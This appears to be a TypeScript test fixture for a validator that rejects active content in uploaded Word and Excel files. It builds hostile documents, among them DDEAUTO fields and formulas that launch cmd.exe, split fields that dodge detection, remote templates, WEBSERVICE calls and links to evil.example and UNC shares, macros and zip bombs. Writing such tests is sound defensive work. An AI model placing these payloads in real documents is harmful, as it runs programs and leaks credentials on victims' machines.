import { documentOf, docx, type Entry, OFFICE, relationships, WORD, workbook, zip } from './archives.ts'
import type { HostileFile } from './hostile.sheets.ts'

// Word and Excel documents that do something when they are opened, or stop whoever looks into them.

const ACTIVE = 'files.active_content'
const TOO_LARGE = 'files.content_too_large'
const BROKEN = 'files.damaged'
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const RELS = 'word/_rels/document.xml.rels'

const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const related = (line: string) => docx({ [RELS]: relationships(line) })
const external = (type: string, target: string) =>
  `<Relationship Id="r" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`
const saying = (body: string) => docx({ 'word/document.xml': documentOf(body) })
const field = (...pieces: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const formula = (text: string) => workbook(`<row r="1"><c r="A1"><f>${text}</f><v>1</v></c></row>`)
const parts = (count: number, content: Buffer): Entry[] =>
  Array.from({ length: count }, (_, at) => ({ name: `word/media/${at}.xml`, content }))

/** Each is refused; those of Excel end in `.xlsx` by their name. */
export const HOSTILE_DOCUMENTS: readonly (HostileFile & { xlsx?: true })[] = [
  {
    what: 'a document type far behind the beginning',
    make: () =>
      docx({ 'word/styles.xml': `<?xml version="1.0"?><!--${'-='.repeat(4_000)} --><!DOCTYPE a><a/>` }),
    reason: ACTIVE,
  },
  {
    what: 'a document type in UTF-16',
    make: () => docx({ 'word/styles.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>') }),
    reason: ACTIVE,
  },
  {
    what: 'a relationship under a prefix',
    make: () =>
      docx({
        [RELS]: `<x:Relationships xmlns:x="${RELATIONSHIPS}"><x:Relationship Id="r" Type="${OFFICE}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></x:Relationships>`,
      }),
    reason: ACTIVE,
  },
  {
    what: 'a mode written as an entity',
    make: () =>
      related(
        `<Relationship Id="r" Type="${OFFICE}/image" Target="http://evil.example/a" TargetMode="&#69;xternal"/>`,
      ),
    reason: ACTIVE,
  },
  {
    what: 'a bracket inside an attribute',
    make: () =>
      related(
        `<Relationship Id="r>" Type="${OFFICE}/image" Target="http://evil.example/a" TargetMode="External"/>`,
      ),
    reason: ACTIVE,
  },
  {
    what: 'an attribute that ends in Type',
    make: () =>
      related(
        `<Relationship Id="r" XType="${OFFICE}/hyperlink" Type="${OFFICE}/image" Target="http://evil.example/a" TargetMode="External"/>`,
      ),
    reason: ACTIVE,
  },
  {
    what: 'relationships in UTF-16',
    make: () =>
      docx({
        [RELS]: utf16(
          `<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="${RELATIONSHIPS}">${external('image', 'http://evil.example/a')}</Relationships>`,
        ),
      }),
    reason: ACTIVE,
  },
  {
    what: 'relationships in capitals',
    make: () =>
      docx({ 'word/_rels/DOCUMENT.XML.RELS': relationships(external('image', 'http://evil.example/a')) }),
    reason: ACTIVE,
  },
  {
    what: 'a field that starts a program',
    make: () => saying(field('DDEAUTO c:\\\\cmd.exe "/c calc"')),
    reason: ACTIVE,
  },
  {
    what: 'a field that starts a program, in pieces',
    make: () => saying(field(' D', 'D', 'E', ' cmd "/c calc"')),
    reason: ACTIVE,
  },
  {
    what: 'a field whose name is made by a field',
    make: () =>
      saying(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(' QUOTE 68 68 69')}<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    reason: ACTIVE,
  },
  {
    what: 'a simple field that brings in a file',
    make: () => saying('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a&quot; \\d"/>'),
    reason: ACTIVE,
  },
  {
    what: 'a field that links to a share',
    make: () => saying(field(' HYPERLINK "\\\\\\\\evil\\\\a"')),
    reason: ACTIVE,
  },
  {
    what: 'a page brought in',
    make: () =>
      docx(
        {
          'word/document.xml': documentOf('<w:altChunk r:id="r"/>'),
          [RELS]: relationships(`<Relationship Id="r" Type="${OFFICE}/aFChunk" Target="afchunk.html"/>`),
          'word/afchunk.html': '<script>alert(1)</script>',
        },
        [],
        '<Default Extension="html" ContentType="text/html"/>',
      ),
    reason: ACTIVE,
  },
  {
    what: 'a page brought in under an honest name',
    make: () =>
      docx(
        { 'word/a.xml': '<html xmlns="http://www.w3.org/1999/xhtml"/>' },
        [],
        '<Override PartName="/word/a.xml" ContentType="application/xhtml+xml"/>',
      ),
    reason: ACTIVE,
  },
  {
    what: 'a document that is called a picture',
    make: () =>
      docx(
        { 'word/a.png': documentOf(field(' DDE cmd')) },
        [],
        '<Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
      ),
    reason: ACTIVE,
  },
  {
    what: 'a link to a file',
    make: () => related(external('hyperlink', 'file:///c:/windows')),
    reason: ACTIVE,
  },
  {
    what: 'a link to a share',
    make: () => related(external('hyperlink', '\\\\evil\\share')),
    reason: ACTIVE,
  },
  {
    what: 'a link that is a script',
    make: () => related(external('hyperlink', 'javascript:alert(1)')),
    reason: ACTIVE,
  },
  {
    what: 'an address that does not say it is one',
    make: () => related(`<Relationship Id="r" Type="${OFFICE}/image" Target="\\\\evil\\a.png"/>`),
    reason: ACTIVE,
  },
  {
    what: 'an embedded object',
    make: () =>
      saying(
        '<w:object xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject ProgID="Package"/></w:object>',
      ),
    reason: ACTIVE,
  },
  {
    what: 'an embedded program',
    make: () => docx({ 'word/embeddings/oleObject1.bin': 'x' }),
    reason: ACTIVE,
  },
  { what: 'a macro', make: () => docx({ 'word/VBAProject.bin': 'x' }), reason: ACTIVE },
  {
    what: 'a macro by its content type',
    make: () =>
      docx(
        {},
        [],
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
      ),
    reason: ACTIVE,
  },
  { what: 'a control', make: () => saying('<w:control w:name="a" r:id="r"/>'), reason: ACTIVE },
  {
    what: 'a drawing with a picture from elsewhere',
    make: () =>
      saying(
        '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\evil\\a.png"/></v:shape>',
      ),
    reason: ACTIVE,
  },
  { what: 'a part of a kind nobody knows', make: () => docx({ 'word/a.hta': 'x' }), reason: ACTIVE },
  {
    what: 'a formula that starts a program',
    make: () => formula("cmd|'/c calc'!A0"),
    reason: ACTIVE,
    xlsx: true,
  },
  {
    what: 'a formula that fetches',
    make: () => formula('_xlfn.WEBSERVICE("http://evil.example")'),
    reason: ACTIVE,
    xlsx: true,
  },
  {
    what: 'a link to another program',
    make: () =>
      workbook('', {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    reason: ACTIVE,
    xlsx: true,
  },
  {
    what: '190 parts that pack to nothing',
    make: () => docx({}, parts(190, Buffer.alloc(1024 * 1024, 32))),
    reason: TOO_LARGE,
  },
  { what: 'very many parts', make: () => docx({}, parts(1_100, Buffer.from('<a/>'))), reason: TOO_LARGE },
  {
    what: 'elements in elements',
    make: () => docx({ 'word/document.xml': documentOf('<w:p>'.repeat(100_000)) }),
    reason: TOO_LARGE,
  },
  {
    what: 'an encoding nobody reads',
    make: () => docx({ 'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
    reason: BROKEN,
  },
  {
    what: 'bytes that are no text',
    make: () => docx({ 'word/a.xml': Buffer.from([0x3c, 0x61, 0xff, 0xfe]) }),
    reason: BROKEN,
  },
  { what: 'another kind', make: () => workbook(''), reason: BROKEN },
  {
    what: 'a directory alone',
    make: () => zip([{ name: 'word/document.xml', content: documentOf('') }]),
    reason: BROKEN,
  },
]

const W = `xmlns:w="${WORD}"`
/** Each is taken. */
export const HONEST_DOCUMENTS: readonly { what: string; make(): Buffer; xlsx?: true }[] = [
  { what: 'a plain document', make: () => docx() },
  {
    what: 'links by http, https and mail',
    make: () =>
      docx({
        [RELS]: relationships(
          ['http://a.example/?a=1&amp;b=2', 'https://a.example/中文#x', 'mailto:a@b.example']
            .map((one) => external('hyperlink', one))
            .join(''),
        ),
      }),
  },
  {
    what: 'ordinary fields, also nested',
    make: () =>
      saying(
        `${field(' PAGE ')}${field(' TOC \\o "1-3" ')}${field(' HYPERLINK "https://a.example/" ')}<w:fldSimple w:instr="NUMPAGES"/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>${field(' PAGE ')}<w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
  },
  {
    what: 'UTF-16',
    make: () => docx({ 'word/document.xml': utf16(documentOf('<w:p/>').replace('UTF-8', 'UTF-16')) }),
  },
  {
    what: 'pictures, fonts, properties, drawings and a folder',
    make: () =>
      docx(
        {
          'word/media/image1.PNG': Buffer.from('\x89PNG', 'latin1'),
          'word/media/image2.emf': 'x',
          'word/fonts/font1.odttf': 'x',
          'docProps/core.xml': '<a xmlns="b">C:\\Users | DDE</a>',
          'word/drawings/vmlDrawing1.vml':
            '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata o:relid="r1"/></v:shape></xml>',
          'word/settings.xml': `<w:settings ${W}><w:docVars><w:docVar w:name="a" w:val="\\\\server\\x"/></w:docVars></w:settings>`,
        },
        [{ name: 'word/media/', content: '' }],
      ),
  },
  {
    what: 'a document that speaks of DDE, macros and entities',
    make: () =>
      saying(
        '<w:p><w:r><w:t>DDEAUTO cmd | &lt;!DOCTYPE a&gt; vbaProject.bin TargetMode="External"</w:t></w:r></w:p>',
      ),
  },
  {
    what: 'a workbook with formulas and what its printer was set to',
    make: () =>
      workbook(
        '<row r="1"><c r="A1"><f>SUM(B1:B9)&amp;"a|b"</f><v>1</v></c><c r="B1"><f>HYPERLINK("https://a.example","x")</f><v>1</v></c></row>',
        {
          'xl/printerSettings/printerSettings1.bin': 'x',
        },
      ),
    xlsx: true,
  },
]
